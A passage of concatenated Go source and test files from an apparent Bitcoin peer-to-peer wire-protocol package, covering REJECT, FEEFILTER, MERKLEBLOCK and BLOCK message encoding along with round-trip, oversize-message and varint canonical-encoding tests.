		h[0] = byte(i)
		inv.AddInvVect(NewInvVect(InvTypeTx, &h))
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		buf, err := EncodeMessage(inv, ProtocolVersion, MainNet)
		if err != nil {
			b.Fatal(err)
		}
		buf.Release()
	}
}
