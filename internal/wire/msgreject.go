package wire

import (
	"fmt"
	"io"

	"banscore/internal/chainhash"
)

// RejectCode represents the numeric REJECT reason.
type RejectCode uint8

// Reject codes.
const (
	RejectMalformed       RejectCode = 0x01
	RejectInvalid         RejectCode = 0x10
	RejectObsolete        RejectCode = 0x11
	RejectDuplicate       RejectCode = 0x12
	RejectNonstandard     RejectCode = 0x40
	RejectDust            RejectCode = 0x41
	RejectInsufficientFee RejectCode = 0x42
	RejectCheckpoint      RejectCode = 0x43
)

// String returns the RejectCode in human-readable form.
func (code RejectCode) String() string {
	switch code {
	case RejectMalformed:
		return "REJECT_MALFORMED"
	case RejectInvalid:
		return "REJECT_INVALID"
	case RejectObsolete:
		return "REJECT_OBSOLETE"
	case RejectDuplicate:
		return "REJECT_DUPLICATE"
	case RejectNonstandard:
		return "REJECT_NONSTANDARD"
	case RejectDust:
		return "REJECT_DUST"
	case RejectInsufficientFee:
		return "REJECT_INSUFFICIENTFEE"
	case RejectCheckpoint:
		return "REJECT_CHECKPOINT"
	}
	return fmt.Sprintf("Unknown RejectCode (%d)", uint8(code))
}

// maxRejectReasonLen caps the reason string.
const maxRejectReasonLen = 250

// MsgReject implements the Message interface and represents a REJECT message
// informing a peer that one of its messages was rejected.
type MsgReject struct {
	// Cmd is the command of the rejected message.
	Cmd string

	// Code classifying the rejection.
	Code RejectCode

	// Reason in human-readable form.
	Reason string

	// Hash of the rejected tx or block, present only for tx/block rejects.
	Hash chainhash.Hash
}

var _ Message = (*MsgReject)(nil)

// NewMsgReject returns a REJECT message for the given command.
func NewMsgReject(command string, code RejectCode, reason string) *MsgReject {
	return &MsgReject{Cmd: command, Code: code, Reason: reason}
}

// BtcDecode decodes the REJECT message.
func (msg *MsgReject) BtcDecode(r io.Reader, _ uint32) error {
	command, err := ReadVarString(r, CommandSize)
	if err != nil {
		return err
	}
	msg.Cmd = command
	code, err := readUint8(r)
	if err != nil {
		return err
	}
	msg.Code = RejectCode(code)
	if msg.Reason, err = ReadVarString(r, maxRejectReasonLen); err != nil {
		return err
	}
	if msg.Cmd == CmdBlock || msg.Cmd == CmdTx {
		if err := readHash(r, &msg.Hash); err != nil {
			return err
		}
	}
	return nil
}

// BtcEncode encodes the REJECT message.
func (msg *MsgReject) BtcEncode(w io.Writer, _ uint32) error {
	if err := WriteVarString(w, msg.Cmd); err != nil {
		return err
	}
	if err := writeUint8(w, uint8(msg.Code)); err != nil {
		return err
	}
	if err := WriteVarString(w, msg.Reason); err != nil {
		return err
	}
	if msg.Cmd == CmdBlock || msg.Cmd == CmdTx {
		return writeHash(w, &msg.Hash)
	}
	return nil
}

// Command returns the protocol command string.
func (msg *MsgReject) Command() string { return CmdReject }

// MaxPayloadLength returns the maximum payload a REJECT message can be.
func (msg *MsgReject) MaxPayloadLength(uint32) uint32 {
	return MaxVarIntPayload + CommandSize + 1 + MaxVarIntPayload + maxRejectReasonLen + chainhash.HashSize
}

// MsgFeeFilter implements the Message interface and represents a FEEFILTER
// message (BIP133) announcing the minimum fee rate for relayed transactions.
type MsgFeeFilter struct {
	// MinFee in satoshi per kilobyte.
	MinFee int64
}

var _ Message = (*MsgFeeFilter)(nil)

// NewMsgFeeFilter returns a FEEFILTER carrying the given minimum fee.
func NewMsgFeeFilter(minFee int64) *MsgFeeFilter { return &MsgFeeFilter{MinFee: minFee} }

// BtcDecode decodes the FEEFILTER message.
func (msg *MsgFeeFilter) BtcDecode(r io.Reader, _ uint32) error {
	v, err := readUint64(r)
	if err != nil {
		return err
	}
	msg.MinFee = int64(v)
	return nil
}

// BtcEncode encodes the FEEFILTER message.
func (msg *MsgFeeFilter) BtcEncode(w io.Writer, _ uint32) error {
	return writeUint64(w, uint64(msg.MinFee))
}

// Command returns the protocol command string.
func (msg *MsgFeeFilter) Command() string { return CmdFeeFilter }

// MaxPayloadLength returns the maximum payload a FEEFILTER message can be.
func (msg *MsgFeeFilter) MaxPayloadLength(uint32) uint32 { return 8 }
