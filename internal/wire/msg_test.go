package wire

import (
	"bytes"
	"net"
	"reflect"
	"testing"
	"testing/quick"
	"time"

	"banscore/internal/chainhash"
)

// roundTrip encodes msg, decodes it into a fresh message of the same
// command, and returns the decoded message.
func roundTrip(t *testing.T, msg Message) Message {
	t.Helper()
	var buf bytes.Buffer
	if err := msg.BtcEncode(&buf, ProtocolVersion); err != nil {
		t.Fatalf("BtcEncode(%s): %v", msg.Command(), err)
	}
	out, err := makeEmptyMessage(msg.Command())
	if err != nil {
		t.Fatalf("makeEmptyMessage(%s): %v", msg.Command(), err)
	}
	if err := out.BtcDecode(&buf, ProtocolVersion); err != nil {
		t.Fatalf("BtcDecode(%s): %v", msg.Command(), err)
	}
	return out
}

func testHash(b byte) chainhash.Hash {
	return chainhash.DoubleHashH([]byte{b})
}

func testHeader(b byte) *BlockHeader {
	prev := testHash(b)
	merkle := testHash(b + 1)
	return NewBlockHeader(1, &prev, &merkle, time.Unix(1700000000, 0), 0x207fffff, uint32(b))
}

func testTx(n int) *MsgTx {
	tx := NewMsgTx(TxVersion)
	prev := testHash(byte(n))
	tx.AddTxIn(NewTxIn(NewOutPoint(&prev, uint32(n)), []byte{0x51}, nil))
	tx.AddTxOut(NewTxOut(int64(n)*1000, []byte{0x51, 0x52}))
	return tx
}

func TestVersionRoundTrip(t *testing.T) {
	in := testVersion()
	out := roundTrip(t, in).(*MsgVersion)
	if out.ProtocolVersion != in.ProtocolVersion || out.Nonce != in.Nonce ||
		out.UserAgent != in.UserAgent || out.LastBlock != in.LastBlock ||
		out.Services != in.Services || !out.Timestamp.Equal(in.Timestamp) ||
		out.DisableRelay != in.DisableRelay {
		t.Errorf("version round trip mismatch:\n got %+v\nwant %+v", out, in)
	}
	if !out.AddrMe.IP.Equal(in.AddrMe.IP) || out.AddrMe.Port != in.AddrMe.Port {
		t.Errorf("AddrMe mismatch: got %v:%d", out.AddrMe.IP, out.AddrMe.Port)
	}
}

func TestVersionOptionalRelay(t *testing.T) {
	in := testVersion()
	var buf bytes.Buffer
	if err := in.BtcEncode(&buf, ProtocolVersion); err != nil {
		t.Fatal(err)
	}
	// Strip the trailing relay byte: old peers omit it.
	trimmed := buf.Bytes()[:buf.Len()-1]
	var out MsgVersion
	if err := out.BtcDecode(bytes.NewReader(trimmed), ProtocolVersion); err != nil {
		t.Fatalf("decode without relay byte: %v", err)
	}
	if out.DisableRelay {
		t.Error("missing relay byte should leave relay enabled")
	}
}

func TestVersionUserAgentTooLongOnEncode(t *testing.T) {
	in := testVersion()
	in.UserAgent = string(make([]byte, MaxUserAgentLen+1))
	if err := in.BtcEncode(bytes.NewBuffer(nil), ProtocolVersion); err == nil {
		t.Error("encode accepted oversize user agent")
	}
}

func TestVersionHasService(t *testing.T) {
	in := testVersion()
	if !in.HasService(SFNodeNetwork) {
		t.Error("expected SFNodeNetwork")
	}
	if in.HasService(SFNodeBloom) {
		t.Error("unexpected SFNodeBloom")
	}
}

func TestAddrRoundTrip(t *testing.T) {
	in := NewMsgAddr()
	for i := 0; i < 3; i++ {
		na := NewNetAddressIPPort(net.IPv4(10, 0, 0, byte(i+1)), 8333, SFNodeNetwork)
		na.Timestamp = time.Unix(1700000000+int64(i), 0)
		in.AddAddress(na)
	}
	out := roundTrip(t, in).(*MsgAddr)
	if len(out.AddrList) != 3 {
		t.Fatalf("addr count = %d, want 3", len(out.AddrList))
	}
	for i, na := range out.AddrList {
		if !na.IP.Equal(in.AddrList[i].IP) || na.Port != in.AddrList[i].Port ||
			!na.Timestamp.Equal(in.AddrList[i].Timestamp) {
			t.Errorf("addr %d mismatch: %+v", i, na)
		}
	}
}

func TestAddrOversizeDecodesForScoring(t *testing.T) {
	// An ADDR with MaxAddrPerMsg+1 entries must DECODE successfully; the
	// node scores it (+20) rather than the wire layer rejecting it.
	in := NewMsgAddr()
	na := NewNetAddressIPPort(net.IPv4(10, 0, 0, 1), 8333, SFNodeNetwork)
	for i := 0; i < MaxAddrPerMsg+1; i++ {
		in.AddAddress(na)
	}
	out := roundTrip(t, in).(*MsgAddr)
	if len(out.AddrList) != MaxAddrPerMsg+1 {
		t.Errorf("oversize addr decoded %d entries, want %d", len(out.AddrList), MaxAddrPerMsg+1)
	}
}

func TestInvLikeRoundTrip(t *testing.T) {
	build := func(m interface{ AddInvVect(*InvVect) }) {
		h1, h2 := testHash(1), testHash(2)
		m.AddInvVect(NewInvVect(InvTypeTx, &h1))
		m.AddInvVect(NewInvVect(InvTypeBlock, &h2))
	}
	msgs := []Message{NewMsgInv(), NewMsgGetData(), NewMsgNotFound()}
	for _, m := range msgs {
		build(m.(interface{ AddInvVect(*InvVect) }))
		out := roundTrip(t, m)
		var invList []*InvVect
		switch v := out.(type) {
		case *MsgInv:
			invList = v.InvList
		case *MsgGetData:
			invList = v.InvList
		case *MsgNotFound:
			invList = v.InvList
		}
		if len(invList) != 2 || invList[0].Type != InvTypeTx || invList[1].Type != InvTypeBlock {
			t.Errorf("%s round trip mismatch: %+v", m.Command(), invList)
		}
	}
}

func TestInvOversizeDecodesForScoring(t *testing.T) {
	in := NewMsgInv()
	h := testHash(1)
	iv := NewInvVect(InvTypeTx, &h)
	for i := 0; i < MaxInvPerMsg+1; i++ {
		in.AddInvVect(iv)
	}
	out := roundTrip(t, in).(*MsgInv)
	if len(out.InvList) != MaxInvPerMsg+1 {
		t.Errorf("oversize inv decoded %d entries, want %d", len(out.InvList), MaxInvPerMsg+1)
	}
}

func TestInvTypeString(t *testing.T) {
	if InvTypeTx.String() != "MSG_TX" || InvTypeBlock.String() != "MSG_BLOCK" {
		t.Error("known inv types misnamed")
	}
	if InvType(99).String() != "Unknown InvType (99)" {
		t.Errorf("unknown inv type = %q", InvType(99).String())
	}
}

func TestGetBlocksGetHeadersRoundTrip(t *testing.T) {
	stop := testHash(9)
	gb := NewMsgGetBlocks(&stop)
	h1, h2 := testHash(1), testHash(2)
	if err := gb.AddBlockLocatorHash(&h1); err != nil {
		t.Fatal(err)
	}
	if err := gb.AddBlockLocatorHash(&h2); err != nil {
		t.Fatal(err)
	}
	out := roundTrip(t, gb).(*MsgGetBlocks)
	if len(out.BlockLocatorHashes) != 2 || out.HashStop != stop {
		t.Errorf("getblocks round trip mismatch: %+v", out)
	}

	gh := NewMsgGetHeaders()
	if err := gh.AddBlockLocatorHash(&h1); err != nil {
		t.Fatal(err)
	}
	out2 := roundTrip(t, gh).(*MsgGetHeaders)
	if len(out2.BlockLocatorHashes) != 1 || *out2.BlockLocatorHashes[0] != h1 {
		t.Errorf("getheaders round trip mismatch: %+v", out2)
	}
}

func TestLocatorCapEnforced(t *testing.T) {
	gh := NewMsgGetHeaders()
	h := testHash(1)
	for i := 0; i < MaxBlockLocatorsPerMsg; i++ {
		if err := gh.AddBlockLocatorHash(&h); err != nil {
			t.Fatal(err)
		}
	}
	if err := gh.AddBlockLocatorHash(&h); err == nil {
		t.Error("locator cap not enforced on add")
	}
}

func TestHeadersRoundTrip(t *testing.T) {
	in := NewMsgHeaders()
	in.AddBlockHeader(testHeader(1))
	in.AddBlockHeader(testHeader(2))
	out := roundTrip(t, in).(*MsgHeaders)
	if len(out.Headers) != 2 {
		t.Fatalf("header count = %d, want 2", len(out.Headers))
	}
	if out.Headers[0].BlockHash() != in.Headers[0].BlockHash() {
		t.Error("header 0 hash mismatch after round trip")
	}
}

func TestHeadersOversizeDecodesForScoring(t *testing.T) {
	in := NewMsgHeaders()
	hdr := testHeader(1)
	for i := 0; i < MaxBlockHeadersPerMsg+1; i++ {
		in.AddBlockHeader(hdr)
	}
	out := roundTrip(t, in).(*MsgHeaders)
	if len(out.Headers) != MaxBlockHeadersPerMsg+1 {
		t.Errorf("oversize headers decoded %d, want %d", len(out.Headers), MaxBlockHeadersPerMsg+1)
	}
}

func TestHeadersRejectNonZeroTxCount(t *testing.T) {
	var buf bytes.Buffer
	_ = WriteVarInt(&buf, 1)
	_ = testHeader(1).Serialize(&buf)
	_ = WriteVarInt(&buf, 5) // non-zero tx count is malformed
	var out MsgHeaders
	if err := out.BtcDecode(&buf, ProtocolVersion); err == nil {
		t.Error("headers with non-zero tx count decoded")
	}
}

func TestTxRoundTripAndHash(t *testing.T) {
	in := testTx(1)
	out := roundTrip(t, in).(*MsgTx)
	if out.TxHash() != in.TxHash() {
		t.Error("tx hash changed across round trip")
	}
	if !reflect.DeepEqual(out.TxOut[0], in.TxOut[0]) {
		t.Errorf("txout mismatch: %+v vs %+v", out.TxOut[0], in.TxOut[0])
	}
}

func TestTxWitnessRoundTrip(t *testing.T) {
	in := testTx(3)
	in.TxIn[0].Witness = TxWitness{[]byte{1, 2, 3}, []byte{4}}
	if !in.HasWitness() {
		t.Fatal("witness not detected")
	}
	out := roundTrip(t, in).(*MsgTx)
	if !out.HasWitness() || len(out.TxIn[0].Witness) != 2 {
		t.Fatalf("witness lost in round trip: %+v", out.TxIn[0].Witness)
	}
	if out.TxHash() != in.TxHash() {
		t.Error("txid must exclude witness data")
	}
	if out.WitnessHash() == out.TxHash() {
		t.Error("wtxid should differ from txid when witness present")
	}
	noWit := testTx(3)
	if noWit.WitnessHash() != noWit.TxHash() {
		t.Error("wtxid should equal txid without witness")
	}
}

func TestTxSerializeSizeMatches(t *testing.T) {
	txs := []*MsgTx{testTx(1), testTx(2)}
	txs[1].TxIn[0].Witness = TxWitness{[]byte{9, 9}}
	for i, tx := range txs {
		var buf bytes.Buffer
		if err := tx.Serialize(&buf); err != nil {
			t.Fatal(err)
		}
		if buf.Len() != tx.SerializeSize() {
			t.Errorf("tx %d: SerializeSize = %d, actual %d", i, tx.SerializeSize(), buf.Len())
		}
	}
}

func TestTxCopyIsDeep(t *testing.T) {
	in := testTx(1)
	in.TxIn[0].Witness = TxWitness{[]byte{1}}
	cp := in.Copy()
	cp.TxIn[0].SignatureScript[0] = 0xff
	cp.TxIn[0].Witness[0][0] = 0xff
	cp.TxOut[0].PkScript[0] = 0xff
	if in.TxIn[0].SignatureScript[0] == 0xff || in.TxIn[0].Witness[0][0] == 0xff || in.TxOut[0].PkScript[0] == 0xff {
		t.Error("Copy shares backing arrays with the original")
	}
}

func TestBlockRoundTrip(t *testing.T) {
	in := NewMsgBlock(testHeader(1))
	in.AddTransaction(testTx(1))
	in.AddTransaction(testTx(2))
	out := roundTrip(t, in).(*MsgBlock)
	if out.BlockHash() != in.BlockHash() {
		t.Error("block hash changed across round trip")
	}
	if len(out.Transactions) != 2 {
		t.Fatalf("tx count = %d, want 2", len(out.Transactions))
	}
	if got := out.SerializeSize(); got != in.SerializeSize() {
		t.Errorf("SerializeSize mismatch: %d vs %d", got, in.SerializeSize())
	}
	var buf bytes.Buffer
	if err := in.Serialize(&buf); err != nil {
		t.Fatal(err)
	}
	if buf.Len() != in.SerializeSize() {
		t.Errorf("SerializeSize = %d, actual %d", in.SerializeSize(), buf.Len())
	}
}

func TestBlockTxHashes(t *testing.T) {
	b := NewMsgBlock(testHeader(1))
	b.AddTransaction(testTx(1))
	b.AddTransaction(testTx(2))
	hashes := b.TxHashes()
	if len(hashes) != 2 || hashes[0] != b.Transactions[0].TxHash() {
		t.Error("TxHashes mismatch")
	}
	b.ClearTransactions()
	if len(b.TxHashes()) != 0 {
		t.Error("ClearTransactions did not clear")
	}
}

func TestBlockHeaderRoundTripProperty(t *testing.T) {
	f := func(version int32, prev, merkle [32]byte, ts uint32, bits, nonce uint32) bool {
		hdr := BlockHeader{
			Version:    version,
			PrevBlock:  chainhash.Hash(prev),
			MerkleRoot: chainhash.Hash(merkle),
			Timestamp:  time.Unix(int64(ts), 0),
			Bits:       bits,
			Nonce:      nonce,
		}
		var buf bytes.Buffer
		if err := hdr.Serialize(&buf); err != nil {
			return false
		}
		if buf.Len() != BlockHeaderLen {
			return false
		}
		var out BlockHeader
		if err := out.Deserialize(&buf); err != nil {
			return false
		}
		return out.BlockHash() == hdr.BlockHash()
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestRejectRoundTrip(t *testing.T) {
	in := NewMsgReject(CmdBlock, RejectInvalid, "invalid block")
	in.Hash = testHash(5)
	out := roundTrip(t, in).(*MsgReject)
	if out.Cmd != in.Cmd || out.Code != in.Code || out.Reason != in.Reason || out.Hash != in.Hash {
		t.Errorf("reject round trip mismatch: %+v", out)
	}
	// Non-tx/block reject carries no hash.
	in2 := NewMsgReject(CmdVersion, RejectDuplicate, "dup version")
	out2 := roundTrip(t, in2).(*MsgReject)
	if out2.Hash != (chainhash.Hash{}) {
		t.Error("non-block reject decoded a hash")
	}
}

func TestRejectCodeString(t *testing.T) {
	if RejectInvalid.String() != "REJECT_INVALID" {
		t.Error("RejectInvalid misnamed")
	}
	if RejectCode(0xee).String() != "Unknown RejectCode (238)" {
		t.Errorf("unknown code = %q", RejectCode(0xee).String())
	}
}

func TestFilterLoadRoundTrip(t *testing.T) {
	in := NewMsgFilterLoad(bytes.Repeat([]byte{0xaa}, 64), 11, 42, BloomUpdateAll)
	out := roundTrip(t, in).(*MsgFilterLoad)
	if !bytes.Equal(out.Filter, in.Filter) || out.HashFuncs != 11 || out.Tweak != 42 || out.Flags != BloomUpdateAll {
		t.Errorf("filterload round trip mismatch: %+v", out)
	}
}

func TestFilterLoadOversizeDecodesForScoring(t *testing.T) {
	in := NewMsgFilterLoad(make([]byte, MaxFilterLoadFilterSize+1), 1, 0, BloomUpdateNone)
	out := roundTrip(t, in).(*MsgFilterLoad)
	if len(out.Filter) != MaxFilterLoadFilterSize+1 {
		t.Errorf("oversize filter decoded %d bytes", len(out.Filter))
	}
}

func TestFilterAddRoundTripAndOversize(t *testing.T) {
	in := NewMsgFilterAdd([]byte{1, 2, 3})
	out := roundTrip(t, in).(*MsgFilterAdd)
	if !bytes.Equal(out.Data, in.Data) {
		t.Error("filteradd round trip mismatch")
	}
	big := NewMsgFilterAdd(make([]byte, MaxFilterAddDataSize+1))
	out2 := roundTrip(t, big).(*MsgFilterAdd)
	if len(out2.Data) != MaxFilterAddDataSize+1 {
		t.Errorf("oversize filteradd decoded %d bytes", len(out2.Data))
	}
}

func TestMerkleBlockRoundTrip(t *testing.T) {
	in := NewMsgMerkleBlock(testHeader(1))
	in.Transactions = 7
	h := testHash(3)
	if err := in.AddTxHash(&h); err != nil {
		t.Fatal(err)
	}
	in.Flags = []byte{0b1011}
	out := roundTrip(t, in).(*MsgMerkleBlock)
	if out.Transactions != 7 || len(out.Hashes) != 1 || *out.Hashes[0] != h || !bytes.Equal(out.Flags, in.Flags) {
		t.Errorf("merkleblock round trip mismatch: %+v", out)
	}
}

func TestCmpctBlockRoundTrip(t *testing.T) {
	in := NewMsgCmpctBlock(testHeader(4))
	in.Nonce = 777
	in.ShortIDs = []uint64{0x0000aabbccddeeff & 0xffffffffffff, 1, 0xffffffffffff}
	in.PrefilledTxs = []*PrefilledTx{{Index: 0, Tx: testTx(1)}}
	out := roundTrip(t, in).(*MsgCmpctBlock)
	if out.Nonce != 777 || len(out.ShortIDs) != 3 || out.ShortIDs[2] != 0xffffffffffff {
		t.Errorf("cmpctblock round trip mismatch: %+v", out)
	}
	if len(out.PrefilledTxs) != 1 || out.PrefilledTxs[0].Tx.TxHash() != in.PrefilledTxs[0].Tx.TxHash() {
		t.Error("prefilled tx mismatch")
	}
	if out.Header.BlockHash() != in.Header.BlockHash() {
		t.Error("header mismatch")
	}
}

func TestGetBlockTxnDifferentialEncoding(t *testing.T) {
	h := testHash(6)
	in := NewMsgGetBlockTxn(&h, []uint32{0, 1, 5, 100})
	out := roundTrip(t, in).(*MsgGetBlockTxn)
	if !reflect.DeepEqual(out.Indexes, in.Indexes) {
		t.Errorf("indexes = %v, want %v", out.Indexes, in.Indexes)
	}
	if out.BlockHash != h {
		t.Error("block hash mismatch")
	}
}

func TestGetBlockTxnRejectsDescendingIndexes(t *testing.T) {
	h := testHash(6)
	in := NewMsgGetBlockTxn(&h, []uint32{5, 1})
	if err := in.BtcEncode(bytes.NewBuffer(nil), ProtocolVersion); err == nil {
		t.Error("descending indexes encoded")
	}
}

func TestBlockTxnRoundTrip(t *testing.T) {
	h := testHash(6)
	in := NewMsgBlockTxn(&h, []*MsgTx{testTx(1), testTx(2)})
	out := roundTrip(t, in).(*MsgBlockTxn)
	if out.BlockHash != h || len(out.Txs) != 2 || out.Txs[1].TxHash() != in.Txs[1].TxHash() {
		t.Errorf("blocktxn round trip mismatch: %+v", out)
	}
}

func TestSendCmpctRoundTrip(t *testing.T) {
	in := NewMsgSendCmpct(true, 2)
	out := roundTrip(t, in).(*MsgSendCmpct)
	if out.Announce != true || out.Version != 2 {
		t.Errorf("sendcmpct round trip mismatch: %+v", out)
	}
}

func TestNetAddressServices(t *testing.T) {
	na := NewNetAddressIPPort(net.IPv4(1, 2, 3, 4), 8333, SFNodeNetwork)
	if !na.HasService(SFNodeNetwork) {
		t.Error("expected SFNodeNetwork")
	}
	na.AddService(SFNodeBloom)
	if !na.HasService(SFNodeBloom) {
		t.Error("AddService failed")
	}
}

func TestNewNetAddressFromTCPAddr(t *testing.T) {
	na := NewNetAddress(&net.TCPAddr{IP: net.IPv4(9, 8, 7, 6), Port: 1234}, SFNodeNetwork)
	if !na.IP.Equal(net.IPv4(9, 8, 7, 6)) || na.Port != 1234 {
		t.Errorf("NewNetAddress = %v:%d", na.IP, na.Port)
	}
}

func TestOutPointString(t *testing.T) {
	h := testHash(1)
	op := NewOutPoint(&h, 3)
	want := h.String() + ":3"
	if op.String() != want {
		t.Errorf("OutPoint.String() = %q, want %q", op.String(), want)
	}
}
