package wire

import (
	"fmt"
	"io"

	"banscore/internal/chainhash"
)

// maxFlagsPerMerkleBlock caps the flag bitfield of a MERKLEBLOCK.
const maxFlagsPerMerkleBlock = maxTxPerMsg / 8

// MsgMerkleBlock implements the Message interface and represents a
// MERKLEBLOCK message (BIP37): a header plus a partial merkle branch proving
// filtered transactions.
type MsgMerkleBlock struct {
	Header       BlockHeader
	Transactions uint32
	Hashes       []*chainhash.Hash
	Flags        []byte
}

var _ Message = (*MsgMerkleBlock)(nil)

// NewMsgMerkleBlock returns a MERKLEBLOCK for the given header.
func NewMsgMerkleBlock(header *BlockHeader) *MsgMerkleBlock {
	return &MsgMerkleBlock{Header: *header}
}

// AddTxHash appends a transaction hash to the partial merkle proof.
func (msg *MsgMerkleBlock) AddTxHash(hash *chainhash.Hash) error {
	if len(msg.Hashes)+1 > maxTxPerMsg {
		return messageError("MsgMerkleBlock.AddTxHash",
			fmt.Sprintf("too many tx hashes [max %d]", maxTxPerMsg))
	}
	msg.Hashes = append(msg.Hashes, hash)
	return nil
}

// BtcDecode decodes the MERKLEBLOCK message.
func (msg *MsgMerkleBlock) BtcDecode(r io.Reader, _ uint32) error {
	if err := readBlockHeader(r, &msg.Header); err != nil {
		return err
	}
	var err error
	if msg.Transactions, err = readUint32(r); err != nil {
		return err
	}
	count, err := ReadVarInt(r)
	if err != nil {
		return err
	}
	if count > maxTxPerMsg {
		return messageError("MsgMerkleBlock.BtcDecode",
			fmt.Sprintf("too many tx hashes [%d, max %d]", count, maxTxPerMsg))
	}
	msg.Hashes = make([]*chainhash.Hash, 0, count)
	for i := uint64(0); i < count; i++ {
		var h chainhash.Hash
		if err := readHash(r, &h); err != nil {
			return err
		}
		msg.Hashes = append(msg.Hashes, &h)
	}
	msg.Flags, err = ReadVarBytes(r, maxFlagsPerMerkleBlock, "merkle block flags")
	return err
}

// BtcEncode encodes the MERKLEBLOCK message.
func (msg *MsgMerkleBlock) BtcEncode(w io.Writer, _ uint32) error {
	if len(msg.Hashes) > maxTxPerMsg {
		return messageError("MsgMerkleBlock.BtcEncode",
			fmt.Sprintf("too many tx hashes [%d, max %d]", len(msg.Hashes), maxTxPerMsg))
	}
	if len(msg.Flags) > maxFlagsPerMerkleBlock {
		return messageError("MsgMerkleBlock.BtcEncode",
			fmt.Sprintf("too many flag bytes [%d, max %d]", len(msg.Flags), maxFlagsPerMerkleBlock))
	}
	if err := writeBlockHeader(w, &msg.Header); err != nil {
		return err
	}
	if err := writeUint32(w, msg.Transactions); err != nil {
		return err
	}
	if err := WriteVarInt(w, uint64(len(msg.Hashes))); err != nil {
		return err
	}
	for _, h := range msg.Hashes {
		if err := writeHash(w, h); err != nil {
			return err
		}
	}
	return WriteVarBytes(w, msg.Flags)
}

// Command returns the protocol command string.
func (msg *MsgMerkleBlock) Command() string { return CmdMerkleBlock }

// MaxPayloadLength returns the maximum payload a MERKLEBLOCK message can be.
func (msg *MsgMerkleBlock) MaxPayloadLength(uint32) uint32 { return MaxBlockPayload }
