package wire

import (
	"fmt"
	"io"

	"banscore/internal/chainhash"
)

// MsgBlock implements the Message interface and represents a Bitcoin BLOCK
// message: a header followed by its transactions.
type MsgBlock struct {
	Header       BlockHeader
	Transactions []*MsgTx
}

var _ Message = (*MsgBlock)(nil)

// NewMsgBlock returns a block carrying the given header and no transactions.
func NewMsgBlock(header *BlockHeader) *MsgBlock {
	return &MsgBlock{Header: *header}
}

// AddTransaction appends a transaction to the block.
func (msg *MsgBlock) AddTransaction(tx *MsgTx) {
	msg.Transactions = append(msg.Transactions, tx)
}

// ClearTransactions removes all transactions.
func (msg *MsgBlock) ClearTransactions() {
	msg.Transactions = nil
}

// BlockHash returns the hash of the block header.
func (msg *MsgBlock) BlockHash() chainhash.Hash {
	return msg.Header.BlockHash()
}

// TxHashes returns the txid of every transaction, in block order.
func (msg *MsgBlock) TxHashes() []chainhash.Hash {
	hashes := make([]chainhash.Hash, len(msg.Transactions))
	for i, tx := range msg.Transactions {
		hashes[i] = tx.TxHash()
	}
	return hashes
}

// BtcDecode decodes the block from r.
func (msg *MsgBlock) BtcDecode(r io.Reader, pver uint32) error {
	if err := readBlockHeader(r, &msg.Header); err != nil {
		return err
	}
	txCount, err := ReadVarInt(r)
	if err != nil {
		return err
	}
	if txCount > maxTxPerMsg {
		return messageError("MsgBlock.BtcDecode", fmt.Sprintf("too many transactions [%d]", txCount))
	}
	msg.Transactions = make([]*MsgTx, 0, txCount)
	for i := uint64(0); i < txCount; i++ {
		tx := MsgTx{}
		if err := tx.BtcDecode(r, pver); err != nil {
			return err
		}
		msg.Transactions = append(msg.Transactions, &tx)
	}
	return nil
}

// BtcEncode encodes the block to w.
func (msg *MsgBlock) BtcEncode(w io.Writer, pver uint32) error {
	if err := writeBlockHeader(w, &msg.Header); err != nil {
		return err
	}
	if err := WriteVarInt(w, uint64(len(msg.Transactions))); err != nil {
		return err
	}
	for _, tx := range msg.Transactions {
		if err := tx.BtcEncode(w, pver); err != nil {
			return err
		}
	}
	return nil
}

// Serialize writes the block in stored form.
func (msg *MsgBlock) Serialize(w io.Writer) error { return msg.BtcEncode(w, ProtocolVersion) }

// Deserialize reads the block in stored form.
func (msg *MsgBlock) Deserialize(r io.Reader) error { return msg.BtcDecode(r, ProtocolVersion) }

// SerializeSize returns the serialized size of the block.
func (msg *MsgBlock) SerializeSize() int {
	n := BlockHeaderLen + VarIntSerializeSize(uint64(len(msg.Transactions)))
	for _, tx := range msg.Transactions {
		n += tx.SerializeSize()
	}
	return n
}

// Command returns the protocol command string.
func (msg *MsgBlock) Command() string { return CmdBlock }

// MaxPayloadLength returns the maximum payload a BLOCK message can be.
func (msg *MsgBlock) MaxPayloadLength(uint32) uint32 { return MaxBlockPayload }
