package wire

import (
	"bytes"
	"errors"
	"io"
	"testing"
	"testing/quick"
)

func TestVarIntRoundTrip(t *testing.T) {
	tests := []struct {
		name string
		in   uint64
		size int
	}{
		{"zero", 0, 1},
		{"single byte max", 0xfc, 1},
		{"two byte min", 0xfd, 3},
		{"two byte max", 0xffff, 3},
		{"four byte min", 0x10000, 5},
		{"four byte max", 0xffffffff, 5},
		{"eight byte min", 0x100000000, 9},
		{"eight byte max", 0xffffffffffffffff, 9},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := WriteVarInt(&buf, tt.in); err != nil {
				t.Fatalf("WriteVarInt: %v", err)
			}
			if buf.Len() != tt.size {
				t.Errorf("encoded size = %d, want %d", buf.Len(), tt.size)
			}
			if got := VarIntSerializeSize(tt.in); got != tt.size {
				t.Errorf("VarIntSerializeSize = %d, want %d", got, tt.size)
			}
			out, err := ReadVarInt(&buf)
			if err != nil {
				t.Fatalf("ReadVarInt: %v", err)
			}
			if out != tt.in {
				t.Errorf("round trip = %d, want %d", out, tt.in)
			}
		})
	}
}

func TestVarIntNonCanonical(t *testing.T) {
	tests := []struct {
		name string
		in   []byte
	}{
		{"0xfd encoding of 0", []byte{0xfd, 0x00, 0x00}},
		{"0xfd encoding of 0xfc", []byte{0xfd, 0xfc, 0x00}},
		{"0xfe encoding of 0xffff", []byte{0xfe, 0xff, 0xff, 0x00, 0x00}},
		{"0xff encoding of 0xffffffff", []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ReadVarInt(bytes.NewReader(tt.in))
			var mErr *MessageError
			if !errors.As(err, &mErr) {
				t.Errorf("ReadVarInt(%x) = %v, want MessageError", tt.in, err)
			}
		})
	}
}

func TestVarIntTruncated(t *testing.T) {
	for _, in := range [][]byte{{}, {0xfd}, {0xfd, 0x01}, {0xfe, 0, 0}, {0xff, 0, 0, 0, 0}} {
		if _, err := ReadVarInt(bytes.NewReader(in)); err == nil {
